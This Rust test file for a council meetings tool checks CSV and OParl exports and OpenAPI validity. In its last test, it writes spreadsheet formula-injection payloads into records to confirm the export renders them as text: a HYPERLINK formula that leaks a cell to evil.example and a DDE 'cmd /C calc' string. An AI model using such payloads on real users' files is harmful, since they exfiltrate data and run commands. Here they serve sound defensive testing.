//! Exports: the registers as CSV, OParl dumps read back, the OpenAPI document.

use super::*;
use crate::browser::{node_tools, run_node};

#[test]
fn the_public_registers_export_as_csv_without_exempt_records() {
    let dir = TempDir::new();
    let data = dir.path().join("data");
    demo(&data, 1500);
    let out = dir.path().join("registers");
    let output = witan()
        .args(["export", "csv", "--data"])
        .arg(&data)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run export");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let said = String::from_utf8_lossy(&output.stdout).to_string();
    let read = |name: &str| {
        let mut reader = csv::Reader::from_path(out.join(name)).expect("csv");
        let header: Vec<String> = reader
            .headers()
            .expect("header")
            .iter()
            .map(str::to_owned)
            .collect();
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.expect("row").iter().map(str::to_owned).collect())
            .collect();
        (header, rows)
    };
    let (header, decisions) = read("decisions.csv");
    assert_eq!(header[..3], ["id", "decided_on", "title"]);
    let (header, actions) = read("actions.csv");
    assert_eq!(header[..3], ["id", "raised_on", "committee"]);
    let (header, plan) = read("forward-plan.csv");
    assert_eq!(header[..3], ["id", "title", "decision_maker"]);
    assert!(!decisions.is_empty() && !actions.is_empty() && !plan.is_empty());
    assert!(
        said.contains(&format!(
            "exported {} decisions, {} actions and {} forward plan entries",
            decisions.len(),
            actions.len(),
            plan.len()
        )),
        "{said}"
    );
    assert!(!out.join("decisions.csv.partial").exists());

    // The same as the public registers: no decision or action of an exempt item.
    let runtime = tokio_runtime();
    let (exempt_decisions, exempt_actions, public_decisions): (Vec<i64>, Vec<i64>, i64) = runtime
        .block_on(async {
            let pool =
                sqlx::SqlitePool::connect(&format!("sqlite://{}", data.join("witan.db").display()))
                    .await
                    .expect("open");
            let decisions: Vec<i64> = sqlx::query_scalar(
                "SELECT d.id FROM decisions d JOIN agenda_items i ON i.id = d.item_id
                 WHERE i.exempt_ground IS NOT NULL",
            )
            .fetch_all(&pool)
            .await
            .expect("decisions");
            let actions: Vec<i64> = sqlx::query_scalar(
                "SELECT a.id FROM actions a JOIN agenda_items i ON i.id = a.item_id
                 WHERE i.exempt_ground IS NOT NULL",
            )
            .fetch_all(&pool)
            .await
            .expect("actions");
            let public: i64 = sqlx::query_scalar(
                "SELECT COUNT(*) FROM decisions d LEFT JOIN agenda_items i ON i.id = d.item_id
                 LEFT JOIN meetings m ON m.id = i.meeting_id
                 WHERE i.id IS NULL OR (i.exempt_ground IS NULL
                   AND m.status NOT IN ('scheduled', 'cancelled'))",
            )
            .fetch_one(&pool)
            .await
            .expect("count");
            (decisions, actions, public)
        });
    assert!(
        !exempt_decisions.is_empty(),
        "the demo has exempt decisions to withhold"
    );
    let ids = |rows: &[Vec<String>]| -> Vec<i64> {
        rows.iter().map(|r| r[0].parse().expect("id")).collect()
    };
    let exported = ids(&decisions);
    assert!(exempt_decisions.iter().all(|id| !exported.contains(id)));
    let exported = ids(&actions);
    assert!(exempt_actions.iter().all(|id| !exported.contains(id)));
    assert_eq!(decisions.len() as i64, public_decisions);
}

/// Every object of an OParl dump folder, embedded ones included, by id.
fn dump_objects(dir: &std::path::Path) -> std::collections::BTreeMap<String, serde_json::Value> {
    fn collect(
        value: &serde_json::Value,
        into: &mut std::collections::BTreeMap<String, serde_json::Value>,
    ) {
        match value {
            serde_json::Value::Object(map) => {
                if let (Some(id), Some(_)) =
                    (map.get("id").and_then(|i| i.as_str()), map.get("type"))
                {
                    into.insert(id.to_owned(), value.clone());
                }
                map.values().for_each(|v| collect(v, into));
            }
            serde_json::Value::Array(items) => items.iter().for_each(|v| collect(v, into)),
            _ => {}
        }
    }
    let mut objects = std::collections::BTreeMap::new();
    let mut folders = vec![dir.to_path_buf()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("dump folder") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let text = std::fs::read_to_string(&path).expect("dump file");
                let value: serde_json::Value = serde_json::from_str(&text).expect("dump JSON");
                collect(&value, &mut objects);
            }
        }
    }
    objects
}

/// The records of a dump in words that do not depend on ids: each reference replaced by the
/// name of what it names, so that two stores holding the same records give the same lines.
fn dump_records(dir: &std::path::Path) -> Vec<String> {
    use serde_json::{Value, json};
    let objects = dump_objects(dir);
    let name = |url: &Value| -> Value {
        url.as_str()
            .and_then(|u| objects.get(u))
            .map_or(Value::Null, |o| o["name"].clone())
    };
    let names = |urls: &Value| -> Value {
        let mut all: Vec<String> = urls
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|u| name(u).as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default();
        all.sort();
        json!(all)
    };
    // A File's digest is not compared: witan takes a digest only from bytes it read, and a dump
    // holds links to the files, not the files (the test below checks that none is taken).
    let file = |f: &Value| json!([f["name"], f["mimeType"], f["size"], f["text"]]);
    let files = |fs: &Value| {
        let mut all: Vec<String> = fs
            .as_array()
            .map(|a| a.iter().map(|f| file(f).to_string()).collect())
            .unwrap_or_default();
        all.sort();
        json!(all)
    };
    let mut lines = Vec::new();
    for object in objects.values() {
        let kind = object["type"]
            .as_str()
            .unwrap_or_default()
            .rsplit('/')
            .next()
            .unwrap_or_default();
        let line = match kind {
            "Body" => json!([kind, object["name"], object["witan:organisationKind"]]),
            "Organization" => json!([
                kind,
                object["name"],
                name(&object["body"]),
                names(&object["witan:jointWith"]),
                object["witan:purpose"],
                name(&object["subOrganizationOf"]),
            ]),
            "Person" => json!([kind, object["name"], object["witan:jobTitle"]]),
            "Membership" => json!([
                kind,
                name(&object["person"]),
                name(&object["organization"]),
                object["witan:role"],
                object["startDate"],
                object["endDate"],
            ]),
            "Meeting" => json!([
                kind,
                names(&object["organization"]),
                object["start"],
                object["end"],
                object["location"]["description"],
                object["witan:status"],
            ]),
            "AgendaItem" => {
                let paper = object["consultation"]
                    .as_str()
                    .and_then(|c| objects.get(c))
                    .map_or(Value::Null, |c| name(&c["paper"]));
                let meeting = object["meeting"].as_str().and_then(|m| objects.get(m));
                json!([
                    kind,
                    meeting.map(|m| names(&m["organization"])),
                    meeting.map(|m| m["start"].clone()),
                    object["number"],
                    object["order"],
                    object["name"],
                    object["public"],
                    paper,
                    object["witan:minutes"],
                    files(&object["auxiliaryFile"]),
                ])
            }
            "Paper" => json!([
                kind,
                object["name"],
                object["reference"],
                object["witan:summary"],
                files(&object["auxiliaryFile"]),
                object["consultation"].as_array().map_or(0, Vec::len),
            ]),
            // Files are compared with what embeds them; the rest have no record of their own.
            _ => continue,
        };
        lines.push(line.to_string());
    }
    lines.sort();
    lines
}

#[test]
fn an_oparl_dump_imports_into_an_empty_store_as_the_same_records() {
    let dir = TempDir::new();
    let data = dir.path().join("data");
    demo(&data, 1500);
    let export = |data: &std::path::Path, out: &std::path::Path| {
        let output = witan()
            .args([
                "export",
                "oparl",
                "--public-url",
                "https://meetings.example.gov.uk",
                "--data",
            ])
            .arg(data)
            .arg("--out")
            .arg(out)
            .output()
            .expect("run export");
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).to_string()
    };
    let first = dir.path().join("first");
    let said = export(&data, &first);
    assert!(
        said.contains(" meeting") && said.contains(" paper"),
        "{said}"
    );
    assert!(
        !first.join("oparl.partial").exists(),
        "no partial dump is left"
    );
    let system: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(first.join("oparl/system.json")).expect("system.json"),
    )
    .expect("JSON");
    assert_eq!(
        system["id"],
        "https://meetings.example.gov.uk/oparl/v1.1/system"
    );

    let copy = dir.path().join("copy");
    let output = witan()
        .args(["import", "--format", "oparl", "--data"])
        .arg(&copy)
        .arg(first.join("oparl"))
        .output()
        .expect("run import");
    assert!(
        output.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let second = dir.path().join("second");
    export(&copy, &second);

    // The digests the first dump states name files the copy never read, so it takes none.
    let digests = |dir: &std::path::Path| {
        dump_objects(dir)
            .values()
            .filter(|o| o.get("witan:sha256").is_some())
            .count()
    };
    assert!(
        digests(&first.join("oparl")) > 0,
        "the demo's files have digests"
    );
    assert_eq!(
        digests(&second.join("oparl")),
        0,
        "a stated digest was taken"
    );
    let before = dump_records(&first.join("oparl"));
    let after = dump_records(&second.join("oparl"));
    assert!(before.len() > 1000, "{} records", before.len());
    let missing: Vec<&String> = before
        .iter()
        .filter(|l| !after.contains(l))
        .take(5)
        .collect();
    let extra: Vec<&String> = after
        .iter()
        .filter(|l| !before.contains(l))
        .take(5)
        .collect();
    assert!(
        missing.is_empty() && extra.is_empty() && before.len() == after.len(),
        "{} records before, {} after; missing after the round trip: {missing:#?}; new: {extra:#?}",
        before.len(),
        after.len()
    );
}

#[test]
fn the_published_openapi_document_is_valid_openapi_3_1() {
    let Some(root) = node_tools("@apidevtools/swagger-parser") else {
        return;
    };
    let chromium = "";
    let dir = TempDir::new();
    let data = dir.path().join("data");
    demo(&data, 300);
    let server = serve(&data);
    let (status, document) = fetch(&agent(), &format!("{}/api/openapi.json", server.base));
    assert_eq!(status, 200);
    let file = dir.path().join("openapi.json");
    std::fs::write(&file, &document).expect("write the document");
    let path = file.to_str().expect("utf-8 path");
    let (status, report) = run_node(
        &root.join("tests/browser/openapi.mjs"),
        &[path],
        chromium,
        Duration::from_secs(60),
    );
    assert!(
        status.is_some_and(|s| s.success()),
        "the OpenAPI document is not valid:\n{report}"
    );
    assert!(report.contains("valid OpenAPI 3.1.0"), "{report}");
    // The control: a document with a dangling reference is refused.
    let broken = document.replacen(
        "#/components/schemas/Meeting\"",
        "#/components/schemas/Nothing\"",
        1,
    );
    assert_ne!(broken, document);
    std::fs::write(&file, &broken).expect("write the broken document");
    let (status, report) = run_node(
        &root.join("tests/browser/openapi.mjs"),
        &[path],
        chromium,
        Duration::from_secs(60),
    );
    assert!(!status.is_some_and(|s| s.success()), "{report}");
}

#[test]
fn csv_export_writes_formulas_in_titles_as_text_not_formulas() {
    let dir = TempDir::new();
    let data = dir.path().join("data");
    demo(&data, 300);
    // Titles as an import from a hostile source could leave them.
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the papers\")";
    tokio_runtime().block_on(async {
        let pool =
            sqlx::SqlitePool::connect(&format!("sqlite://{}", data.join("witan.db").display()))
                .await
                .expect("open");
        for (sql, value) in [
            ("UPDATE decisions SET title = ?", formula),
            (
                "UPDATE actions SET description = ?",
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("UPDATE forward_plan SET title = ?", "+1+1"),
        ] {
            sqlx::query(sql)
                .bind(value)
                .execute(&pool)
                .await
                .expect(sql);
        }
    });
    let out = dir.path().join("registers");
    let output = witan()
        .args(["export", "csv", "--data"])
        .arg(&data)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run export");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let column = |file: &str, name: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
        let at = reader
            .headers()
            .expect("header")
            .iter()
            .position(|h| h == name)
            .expect("column");
        reader
            .records()
            .map(|r| r.expect("row")[at].to_owned())
            .collect()
    };
    for (file, name, expected) in [
        ("decisions.csv", "title", format!("'{formula}")),
        (
            "actions.csv",
            "description",
            "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        ),
        ("forward-plan.csv", "title", "'+1+1".to_owned()),
    ] {
        let cells = column(file, name);
        assert!(!cells.is_empty(), "{file} has rows");
        assert!(
            cells.iter().all(|c| *c == expected),
            "{file} {name}: {:?}",
            cells.iter().find(|c| **c != expected)
        );
    }
    // Every cell of every file: none starts as a formula would.
    for file in ["decisions.csv", "actions.csv", "forward-plan.csv"] {
        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
        for row in reader.records() {
            for cell in row.expect("row").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                    "{file}: {cell:?}"
                );
            }
        }
    }
}
